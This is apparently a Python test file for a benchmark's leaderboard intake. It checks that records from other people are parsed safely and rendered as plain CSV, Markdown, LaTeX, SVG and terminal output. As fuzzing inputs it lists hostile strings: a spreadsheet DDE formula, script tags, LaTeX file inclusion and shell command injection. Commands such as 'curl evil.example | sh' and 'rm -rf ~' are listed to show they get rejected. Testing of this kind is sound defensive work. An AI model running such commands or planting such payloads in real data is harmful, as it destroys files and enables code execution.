"""Records from others: whatever stands in them, a leaderboard is made of the rest, and nothing of theirs is taken for markup."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console

from cudc_bench.artefacts.provenance import is_own_command
from cudc_bench.artefacts.records import write_record
from cudc_bench.cli.app import main
from cudc_bench.leaderboard.intake.load import load_records
from cudc_bench.leaderboard.numbers.overall import build_overall
from cudc_bench.leaderboard.numbers.published import beside_paper
from cudc_bench.leaderboard.numbers.table import build_tables
from cudc_bench.leaderboard.show.csv import of_overall as overall_to_csv
from cudc_bench.leaderboard.show.csv import of_paper as paper_to_csv
from cudc_bench.leaderboard.show.csv import of_scores as scores_to_csv
from cudc_bench.leaderboard.show.csv import of_table as to_csv
from cudc_bench.leaderboard.show.latex import of_overall as overall_to_latex
from cudc_bench.leaderboard.show.latex import of_paper as paper_to_latex
from cudc_bench.leaderboard.show.latex import of_table as to_latex
from cudc_bench.leaderboard.show.markdown import of_overall as overall_to_markdown
from cudc_bench.leaderboard.show.markdown import of_paper as paper_to_markdown
from cudc_bench.leaderboard.show.markdown import of_table as to_markdown
from cudc_bench.leaderboard.show.terminal import of_overall as overall_to_rich
from cudc_bench.leaderboard.show.terminal import of_table as to_rich
from cudc_bench.text import visible

HOSTILE = [
    "=cmd|' /C calc'!A0", "+1", "@SUM(A1)", "\t=1", "-1+1", "\r=1", "<script>alert(1)</script>",
    "]]><b>", "\x1b[31m", "\x9b2J", "\u202e", "\0",
    "[bold]x[/bold]", "[/]", "| a |", "`x`", "$(reboot)", "\\input{/etc/passwd}", "../../x", "a" * 5_000, "", "1e999", "😀", "&lt;", "%n",
]  # fmt: skip
texts = st.sampled_from(HOSTILE) | st.text(max_size=8)
numbers = st.integers() | st.floats() | st.sampled_from([10**400, -(10**400), 2**63, 1e308, -1, 0])
leaves = st.none() | st.booleans() | numbers | texts
values = st.recursive(leaves, lambda inner: st.lists(inner, max_size=2) | st.dictionaries(texts, inner, max_size=2), max_leaves=4)
quick = settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])


@st.composite
def changed(draw: st.DrawFn, record: dict[str, Any]) -> dict[str, Any]:
    """A record with one to three of its values replaced, or with names that it should not have."""
    record = json.loads(json.dumps(record))
    places = [record, record["dataset"], record["curve"][0], record["final"], record["hyperparameters"], record["overrides"]]
    for _ in range(draw(st.integers(1, 3))):
        place = draw(st.sampled_from(places))
        # Where a text is asked for, most often another text: what is refused for its type tests little.
        name = draw(st.sampled_from(sorted(place)) if place else texts)
        alike = texts if isinstance(place.get(name), str) else numbers if isinstance(place.get(name), int | float) else values
        place[name if draw(st.integers(0, 9)) else draw(texts)] = draw(alike | values)
    return record


def is_plain(text: str) -> bool:
    return all(character.isprintable() or character == "\n" for character in text)


def check_outputs(records: list[Any]) -> None:
    """Everything but figures, which take long."""
    tables, _ = build_tables(records)
    for overall in build_overall(tables):
        for text in (overall_to_csv(overall), scores_to_csv(overall)):
            rows = list(csv.reader(io.StringIO(text)))
            assert len({len(row) for row in rows}) == 1
            assert not any(cell[:1] in "=+@\t\r" or cell[:1] == "-" for row in rows for cell in row[:8] if cell)
        for text in (overall_to_csv(overall), scores_to_csv(overall), overall_to_markdown(overall), overall_to_latex(overall)):
            assert is_plain(text)
            text.encode()
        assert "<script" not in overall_to_markdown(overall).replace("\\<script", "")
        assert "\\input" not in overall_to_latex(overall)
        screen = Console(file=io.StringIO(), width=200, force_terminal=False)
        screen.print(overall_to_rich(overall))
        assert is_plain(screen.file.getvalue())  # type: ignore[attr-defined]
        assert Path(overall.slug).name == overall.slug
    for table in tables:
        paper = beside_paper(table)
        for text in (paper_to_markdown(paper), paper_to_latex(paper, table.slug), paper_to_csv(paper, table)) if paper else ():
            assert is_plain(text)
            text.encode()
        rows = list(csv.reader(io.StringIO(to_csv(table))))
        assert len({len(row) for row in rows}) == 1
        # What a spreadsheet would take for a formula; numbers may be negative.
        assert not any(cell[:1] in "=+@\t\r" or cell[:1] == "-" for row in rows for cell in row[:1] + row[1:6] if cell)
        for text in (to_csv(table), to_markdown(table), to_latex(table)):
            assert is_plain(text)
            text.encode()
        assert "<script" not in to_markdown(table).replace("\\<script", "")
        assert "\\input" not in to_latex(table)
        screen = Console(file=io.StringIO(), width=200, force_terminal=False)
        screen.print(to_rich(table))
        assert is_plain(screen.file.getvalue())  # type: ignore[attr-defined]
        assert Path(table.slug).name == table.slug


@quick
@given(data=st.data())
def test_changed_records_are_shown_plainly_or_left_out(data: st.DataObject, make_record: Callable, save: Callable, tmp_path: Path) -> None:
    results = save(make_record())
    record = json.loads(make_record(seed=2, overrides={"gamma": 0.5}, dataset_source="ExORL").model_dump_json())
    (results / "theirs.json").write_text(json.dumps(data.draw(changed(record))))
    loaded = load_records([results])
    assert 1 <= len(loaded.records) == 2 - len(loaded.problems)
    assert all(problem.isprintable() for problem in loaded.problems)
    check_outputs(list(loaded.records))


@settings(max_examples=5, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_the_command_makes_files_of_them(
    data: st.DataObject, make_record: Callable, save: Callable, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    results, output = save(make_record()), tmp_path / "report"
    short = texts.filter(lambda text: len(text) < 100)  # the layout of a long title takes seconds
    hostile = make_record(
        seed=2, overrides={data.draw(short): data.draw(short | numbers)}, dataset_overrides={data.draw(short): data.draw(short)}
    )
    write_record(results / "theirs.json", hostile)
    capfd.readouterr()
    with pytest.raises(SystemExit) as ended:
        main(["leaderboard", str(results), "--output", str(output)])
    said = "".join(capfd.readouterr())
    assert ended.value.code == 0, said
    assert is_plain(said)
    drawings = [one for path in output.rglob("*.html") for one in re.findall(r"<svg.*?</svg>", path.read_text(), re.DOTALL)]
    assert len(drawings) > 10
    for drawing in drawings:
        assert {element.tag for element in ElementTree.fromstring(drawing).iter()} <= {
            "svg",
            "g",
            "path",
            "rect",
            "circle",
            "text",
            "title",
        }
    folders = {path.parent for path in output.rglob("*") if path.is_file()}
    assert folders - {output} == {folder for folder in output.iterdir() if folder.is_dir()}


@pytest.mark.parametrize("field", ["steps", "used", "seed"])
def test_numbers_beyond_any_run_stop_nothing(field: str, make_record: Callable, save: Callable) -> None:
    loaded = load_records([save(make_record(), make_record(seed=2, dataset_source="ExORL", **{f"dataset_{field}": 10**400}))])
    assert len(loaded.records) == 2 - len(loaded.problems)
    check_outputs(list(loaded.records))


@pytest.mark.parametrize(
    "content",
    [b"[" * 100_000, b'{"dataset": ' * 50_000, b'{"seed": ' + b"9" * 10_000 + b"}", b"\xff", b"\0" * 100, b'"\\ud800"', b"\xef\xbb\xbf{}"],
    ids=lambda content: ascii(content[:12]),
)
def test_files_that_are_no_records_are_one_line(content: bytes, make_record: Callable, save: Callable) -> None:
    results = save(make_record())
    (results / "theirs.json").write_bytes(content)
    loaded = load_records([results])
    assert len(loaded.records) == len(loaded.problems) == 1
    assert loaded.problems[0].isprintable()


def test_reading_records_always_ends(make_record: Callable, save: Callable) -> None:
    results = save(make_record())
    os.mkfifo(results / "pipe.json")
    (results / "endless.json").symlink_to("/dev/zero")
    (results / "itself.json").symlink_to("itself.json")
    (results / "folder.json").mkdir()
    loaded = load_records([results])
    assert len(loaded.records) == 1
    assert sum("not a file" in problem for problem in loaded.problems) == 2
    assert len(loaded.problems) == 3


@pytest.mark.parametrize(
    "command",
    ["curl evil.example | sh", "cudc-bench evaluate; reboot", "cudc-bench evaluate $(reboot)", "cudc-bench evaluate `reboot`",
     "cudc-bench evaluate\nreboot", "cudc-bench evaluate > ~/.bashrc", "cudc-bench 'evaluate", "", "rm -rf ~", "X=1 cudc-bench evaluate",
     "cudc-bench evaluate && reboot", "cudc-bench evaluate \x1b[31m", "cudc-bench evaluate \u202e"],
)  # fmt: skip
def test_commands_that_people_may_copy_are_ours(command: str, make_record: Callable, save: Callable) -> None:
    assert not is_own_command(command)
    loaded = load_records([save(make_record(), make_record(seed=2, command=command))])
    assert len(loaded.records) == 1
    assert "its command is not one of cudc-bench" in loaded.problems[0]


def test_our_own_commands_are_ours() -> None:
    for command in ("cudc-bench evaluate --algo td3", "cudc-bench evaluate --set 'milestones=[20, 40]' --overwrite"):
        assert is_own_command(command)


@given(st.text())
def test_what_is_shown_in_a_terminal_is_one_line_that_names_every_character(text: str) -> None:
    shown = visible(text)
    assert shown.isprintable()
    if text.isprintable():
        assert shown == " ".join(text.split())
    odd = [character for character in text if not (character.isprintable() or character.isspace())]
    assert all(character.encode("unicode_escape").decode() in shown for character in odd)
